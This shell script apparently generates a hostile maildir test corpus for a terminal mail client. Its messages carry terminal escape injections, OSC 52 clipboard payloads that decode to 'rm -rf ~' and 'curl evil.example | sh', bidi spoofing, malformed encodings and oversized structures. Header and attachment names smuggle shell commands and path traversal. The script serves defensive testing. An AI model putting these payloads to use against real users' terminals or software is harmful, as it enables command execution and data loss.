#!/bin/sh
# Write a maildir of mail built to hurt a terminal mail program into $1
# (created).  Deterministic: the same bytes every time.  The big ones (a
# 1 MiB header line, 10,000 MIME parts, MIME nested 100 deep, a 5,000
# message thread) are generated here rather than kept in git.
#   tests/hostile/make-corpus.sh DIR [--small]
# --small leaves the thread at 50 messages (for quick runs).
# Each message's Subject starts with "hostile:NAME" so a test can find it;
# tests/hostile/README lists what each one tries.
set -eu
out=$1
thread_len=5000
[ "${2:-}" = "--small" ] && thread_len=50
mkdir -p "$out/cur" "$out/new" "$out/tmp"

# msg NAME: the message on stdin becomes a file of the maildir.
msg() {
	cat >"$out/cur/hostile-$1:2,S"
}

# Headers every message has unless it says otherwise.
hdr() {
	printf 'From: Hostile Sender <hostile@example.org>\n'
	printf 'To: conduct@kernel.org\n'
	printf 'Date: Tue, 3 Nov 2026 10:30:00 +0000\n'
	printf 'Message-ID: <hostile-%s@example.org>\n' "$1"
}

ESC=$(printf '\033')
BEL=$(printf '\007')

# CSI: clear screen, colours, cursor moves, title in subject/name/body.
{
	printf 'From: =?utf-8?q?Mallory_=1B[2J=1B[H?= \033[31mRed\033[0m <mallory@example.org>\n'
	printf 'To: conduct@kernel.org\nDate: Tue, 3 Nov 2026 10:00:00 +0000\n'
	printf 'Message-ID: <hostile-csi@example.org>\n'
	printf 'Subject: hostile:csi \033[2J\033[1;1H\033[5mblink\033[0m \033[?1049h alt\n\n'
	printf 'Body \033[2J\033[H\033[31mred\033[0m \033[1A\033[2K erased line\n'
	printf '8-bit CSI in UTF-8: \302\233 2J and \302\235 OSC\n'
} | msg csi

# OSC 52 (clipboard write) and OSC 8 (hyperlinks), BEL and ST ended.
{
	hdr osc
	printf 'Subject: hostile:osc \033]52;c;cm0gLXJmIH4K\007 \033]0;title\007\n'
	printf 'Cc: =?utf-8?b?G104OztodHRwOi8veAc=?= Carol <cc@example.org>\n'
	printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n'
	printf 'Clipboard: \033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\033\\ done\n'
	printf 'Link: \033]8;;https://evil.example/\033\\click here\033]8;;\033\\ (OSC 8)\n'
	printf 'Link with BEL: \033]8;;file:///etc/passwd\007x\033]8;;\007\n'
} | msg osc

# Escape sequences that only appear after decoding: RFC 2047, QP, base64.
{
	hdr encoded
	printf 'Subject: hostile:encoded =?utf-8?q?=1B]52;c;eA=3D=3D=07_=1B[2J?= =?utf-8?b?G10yO293bmVkBw==?=\n'
	printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
	printf -- '--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n'
	printf 'QP =1B[2J cleared =1B]52;c;eA=3D=3D=07 clip =C2=9B C1\n'
	printf -- '--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n'
	printf 'B64 \033[2J \033]8;;http://x\007link\n' | base64
	printf -- '--b--\n'
} | msg encoded

# Bidi overrides, embeddings, isolates and marks ("Trojan Source").
{
	printf 'From: =?utf-8?q?Ad=E2=80=AEnimda?= <admin@example.org>\n'
	printf 'To: conduct@kernel.org\nDate: Tue, 3 Nov 2026 10:01:00 +0000\n'
	printf 'Message-ID: <hostile-bidi@example.org>\n'
	printf 'Subject: hostile:bidi \342\200\256gnp.exe\342\200\254 \342\201\246isolate\342\201\251 \342\200\217rlm\n'
	printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
	printf -- '--b\nContent-Type: text/plain; charset=utf-8\n\n'
	printf 'if (admin) \342\200\256 } \342\201\246 // \342\201\251 { \342\200\252LRE \342\200\253RLE \342\200\255LRO \342\201\247RLI \342\201\250FSI \330\234ALM\n'
	printf -- '--b\nContent-Type: application/octet-stream\n'
	printf 'Content-Disposition: attachment; filename="=?utf-8?q?invoice=E2=80=AEfdp.exe?="\n\nx\n'
	printf -- '--b--\n'
} | msg bidi

# Zero-width and invisible characters.
{
	printf 'From: =?utf-8?q?J=E2=80=8Bo=C2=ADhn=E2=80=8D?= <john@example.org>\n'
	printf 'To: conduct@kernel.org\nDate: Tue, 3 Nov 2026 10:02:00 +0000\n'
	printf 'Message-ID: <hostile-zerowidth@example.org>\n'
	printf 'Subject: hostile:zerowidth a\342\200\213b\342\200\214c\342\200\215d\342\201\240e\357\273\277f\302\255g\n'
	printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n'
	printf 'tags: \363\240\201\250\363\240\201\251 hangul filler: \343\205\244 line sep:\342\200\250 para sep:\342\200\251 end\n'
} | msg zerowidth

# Invalid and overlong UTF-8 under a utf-8 label, and unlabelled.
{
	hdr badutf8
	printf 'Subject: hostile:badutf8 \300\257 \340\200\257 \355\240\200 \364\220\200\200 \342\202 \200 \377\n'
	printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n'
	printf 'overlong slash \300\257, overlong 3-byte \340\200\257, surrogate \355\240\200,\n'
	printf 'beyond U+10FFFF \364\220\200\200, cut short \342\202, stray \200\277, \376\377 bytes\n'
	printf 'overlong ESC \300\233[2J and overlong NUL \300\200\n'
} | msg badutf8

# NUL bytes in a header and in the body.
{
	hdr nul
	printf 'Subject: hostile:nul before\000after\n'
	printf 'X-Nul: \000\000\000\n\n'
	printf 'body before NUL\000after NUL \000\033[2J\n'
} | msg nul

# C1 controls as Latin-1 bytes: 0x9b is CSI on 8-bit terminals.
{
	hdr c1
	printf 'Subject: hostile:c1 =?iso-8859-1?q?=9B2J_=9D0;t=07?=\n'
	printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=iso-8859-1\n'
	printf 'Content-Transfer-Encoding: 8bit\n\n'
	printf 'Latin-1 C1: \2332J \2350;title\234 \205NEL\n'
} | msg c1

# A 1 MiB header line.
{
	hdr longheader
	printf 'Subject: hostile:longheader '
	awk 'BEGIN { s = "\033[2JAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\342\200\256"; \
		for (i = 0; i < 28340; i++) printf "%s", s }'
	printf '\nX-Long: '
	awk 'BEGIN { for (i = 0; i < 16384; i++) printf "%s", "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" }'
	printf '\n\nshort body\n'
} | msg longheader

# 10,000 MIME parts, text and attachments alternating.
{
	hdr manyparts
	printf 'Subject: hostile:manyparts\nMIME-Version: 1.0\n'
	printf 'Content-Type: multipart/mixed; boundary="p"\n\n'
	awk 'BEGIN { for (i = 0; i < 10000; i++) {
		printf "--p\n"
		if (i % 2)
			printf "Content-Type: application/octet-stream; name=\"part%d\033[2J.bin\"\nContent-Disposition: attachment\n\nx\n", i
		else
			printf "Content-Type: text/plain\n\npart %d \033]52;c;eA==\007\n", i
	} printf "--p--\n" }'
} | msg manyparts

# MIME nested 100 deep.
{
	hdr deepmime
	printf 'Subject: hostile:deepmime\nMIME-Version: 1.0\n'
	printf 'Content-Type: multipart/mixed; boundary="d0"\n\n'
	awk 'BEGIN { for (i = 0; i < 100; i++)
			printf "--d%d\nContent-Type: multipart/mixed; boundary=\"d%d\"\n\n", i, i + 1
		printf "--d100\nContent-Type: text/plain\n\ndeepest \033[2J\n--d100--\n"
		for (i = 99; i >= 0; i--) printf "--d%d--\n", i }'
} | msg deepmime

# No Message-ID, no Date, no From.
{
	printf 'To: conduct@kernel.org\nSubject: hostile:noheaders\n\nno id, no date, no sender\n'
} | msg noheaders

# The same Message-ID twice (two files), and doubled Date/From/Subject.
for i in 1 2; do
	{
		printf 'From: First <first@example.org>\nFrom: Second \033[2J <second@example.org>\n'
		printf 'To: conduct@kernel.org\n'
		printf 'Date: Tue, 3 Nov 2026 10:0%d:00 +0000\nDate: garbage \033]52;c;eA==\007\n' "$i"
		printf 'Message-ID: <hostile-dup@example.org>\nMessage-ID: <hostile-dup-second@example.org>\n'
		printf 'Subject: hostile:duplicate copy %d\nSubject: second subject\n\ncopy %d\n' "$i" "$i"
	} | msg "dup$i"
done

# Message ids and attachment names with quotes, shell metacharacters,
# ../ and control characters.
{
	printf 'From: "Quote\\" Me; rm -rf ~" <"a b;$(id)"@example.org>\n'
	printf 'To: conduct@kernel.org\nDate: Tue, 3 Nov 2026 10:03:00 +0000\n'
	printf 'Message-ID: <"$(touch /tmp/pwned)";`id`|&>../../etc/passwd\033[2J@evil.example>\n'
	printf 'In-Reply-To: <../../../etc/shadow@x>\n'
	printf 'References: <a'"'"'b"c@x> <$HOME@x>\n'
	printf 'Subject: hostile:names $(reboot) `id` ; | & > ../ '"'"'q'"'"' "dq"\n'
	printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="n"\n\n'
	printf -- '--n\nContent-Type: text/plain\n\nsee attachments\n'
	for name in '../../.bashrc' '$(reboot).sh' '`id`;rm -rf ~' 'a\"b'"'"'c.txt' '/etc/passwd' '..' 'con:' ' .hidden'; do
		printf -- '--n\nContent-Type: application/octet-stream\n'
		printf 'Content-Disposition: attachment; filename="%s"\n\nx\n' "$name"
	done
	printf -- "--n\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''%%1b%%5b2J%%07%%0d%%0a..%%2f..%%2fx.txt\n\nx\n"
	printf -- '--n\nContent-Type: application/octet-stream; name="=?utf-8?q?=1B]52;c;eA=3D=3D=07.txt?="\n\nx\n'
	printf -- '--n--\n'
} | msg names

# A thread of $thread_len messages, each replying to the one before.
awk -v out="$out/cur" -v len="$thread_len" 'BEGIN {
	for (i = 0; i < len; i++) {
		f = sprintf("%s/thread-%05d:2,S", out, i)
		printf "From: Poster %d <p%d@example.org>\n", i % 97, i % 97 > f
		printf "To: conduct@kernel.org\n" > f
		printf "Date: Wed, 4 Nov 2026 %02d:%02d:%02d +0000\n", int(i / 3600), int(i / 60) % 60, i % 60 > f
		printf "Message-ID: <hostile-thread-%d@example.org>\n", i > f
		if (i > 0) {
			printf "In-Reply-To: <hostile-thread-%d@example.org>\n", i - 1 > f
			printf "References: <hostile-thread-0@example.org> <hostile-thread-%d@example.org>\n", i - 1 > f
		}
		printf "Subject: %shostile:thread \033[2J\n\nmessage %d of the long thread\n", (i ? "Re: " : ""), i > f
		close(f)
	}
}'
